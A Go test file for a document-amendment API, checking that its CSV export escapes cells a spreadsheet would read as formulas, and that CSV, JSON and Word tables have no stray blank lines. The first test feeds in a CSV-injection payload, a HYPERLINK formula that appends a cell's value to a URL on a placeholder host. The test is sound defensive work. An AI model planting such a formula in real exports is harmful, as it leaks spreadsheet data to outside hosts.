package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"redline/internal/httpapi"
)

// TestAmendmentsCSVHoldsNoFormulas: a member's proposed wording
// "=HYPERLINK(…)" went into the table of amendments' .csv as it was, and a
// spreadsheet program opening it ran it as a formula (also an item
// "- обеспечить…", shown as #NAME?). Such a cell starts with an apostrophe;
// the JSON table keeps the text as written.
func TestAmendmentsCSVHoldsNoFormulas(t *testing.T) {
	a := workflowAPI(t, "sqlite+disk")
	member := a.as("member")
	formula := `=HYPERLINK("http://example.invalid/?"&A1,"Подробнее")`
	member.mustStatus(member.do("POST", "/api/v1/documents/doc/proposals", map[string]any{"base": 1, "title": "Формула",
		"changes": []map[string]any{{"op": "insert_after", "item": "2", "text": formula}}}), 201)
	member.mustStatus(member.do("POST", "/api/v1/documents/doc/proposals", map[string]any{"base": 1, "title": "Список",
		"changes": []map[string]any{{"op": "insert_after", "item": "4", "text": "- обеспечить участие;\n+ и ещё @всех"}}}), 201)
	c := member.mustStatus(member.do("GET", "/api/v1/documents/doc/amendments.csv", nil), 200)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.Body, []byte("\ufeff")))).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("csv: %v %q", err, recs)
	}
	seen := 0
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet reads as a formula: %q", cell)
			}
			if strings.HasPrefix(cell, "'=HYPERLINK") || strings.HasPrefix(cell, "'- обеспечить") {
				seen++
			}
		}
	}
	if seen != 2 {
		t.Errorf("the proposed wordings are not in the table as text: %q", recs)
	}
	j := member.mustStatus(member.do("GET", "/api/v1/documents/doc/amendments", nil), 200)
	if !strings.Contains(string(j.Body), `"proposed":"=HYPERLINK`) {
		t.Errorf("the JSON table changed the text: %s", j.Body)
	}
}

// TestAmendmentCellsHaveNoStrayBlankLines: an item replaced by a wording
// with little in common is one change deleting it and one inserting the new
// one; the draft's cell ended and the proposed wording's began with a blank
// line (JSON, .csv).
func TestAmendmentCellsHaveNoStrayBlankLines(t *testing.T) {
	a := workflowAPI(t, "sqlite+disk")
	member := a.as("member")
	wording := `=HYPERLINK("http://example.invalid/","Подробнее")`
	member.mustStatus(member.do("POST", "/api/v1/documents/doc/proposals", map[string]any{"base": 1, "title": "Иначе",
		"changes": []map[string]any{{"op": "replace", "item": "2", "text": wording}}}), 201)
	var table struct {
		Amendments []struct {
			Draft, Proposed string
			Changes         [][]any
		}
	}
	j := member.mustStatus(member.do("GET", "/api/v1/documents/doc/amendments", nil), 200)
	if err := json.Unmarshal(j.Body, &table); err != nil || len(table.Amendments) != 1 {
		t.Fatalf("table: %v %s", err, j.Body)
	}
	row := table.Amendments[0]
	if len(row.Changes) < 2 {
		t.Fatalf("the replacement is %d change(s), the case needs a deletion and an insertion: %s", len(row.Changes), j.Body)
	}
	if row.Draft != "2. Рекомендовать создать центр кластерного развития." || row.Proposed != "2. "+wording {
		t.Errorf("draft %q, proposed %q", row.Draft, row.Proposed)
	}
	c := member.mustStatus(member.do("GET", "/api/v1/documents/doc/amendments.csv", nil), 200)
	if bytes.Contains(c.Body, []byte("\"\n\n")) || bytes.Contains(c.Body, []byte("\n\n\"")) {
		t.Errorf("a csv cell begins or ends with a blank line: %s", c.Body)
	}
}

// TestAmendmentWordCellsHaveNoEmptyParagraphs: in the .docx table an
// inserted item's "text of the draft" cell held an empty paragraph, a
// blank line in Word.
func TestAmendmentWordCellsHaveNoEmptyParagraphs(t *testing.T) {
	a := workflowAPI(t, "sqlite+disk")
	member := a.as("member")
	member.mustStatus(member.do("POST", "/api/v1/documents/doc/proposals", map[string]any{"base": 1, "title": "Новый и без первого",
		"changes": []map[string]any{{"op": "insert_after", "item": "4", "text": "5. Провести конференцию."}, {"op": "delete", "item": "1"}}}), 201)
	u, err := a.svc.UserByLogin(t.Context(), "member")
	if err != nil {
		t.Fatal(err)
	}
	tab, err := a.svc.Proposals.Amendments(t.Context(), &u, "doc", 1, "")
	if err != nil || len(tab.Rows) != 1 {
		t.Fatalf("table: %v %+v", err, tab)
	}
	row := httpapi.AmendmentsTable(tab, true).Rows[0]
	// The draft holds the deleted item; the proposed wording shows it struck
	// through and the inserted one.
	for i, want := range map[int]int{2: 1, 3: 2} {
		if len(row[i]) != want {
			t.Errorf("cell %d has %d paragraphs, want %d: %+v", i, len(row[i]), want, row[i])
		}
		for _, para := range row[i] {
			if len(para) == 0 {
				t.Errorf("cell %d has an empty paragraph: %+v", i, row[i])
			}
		}
	}
}
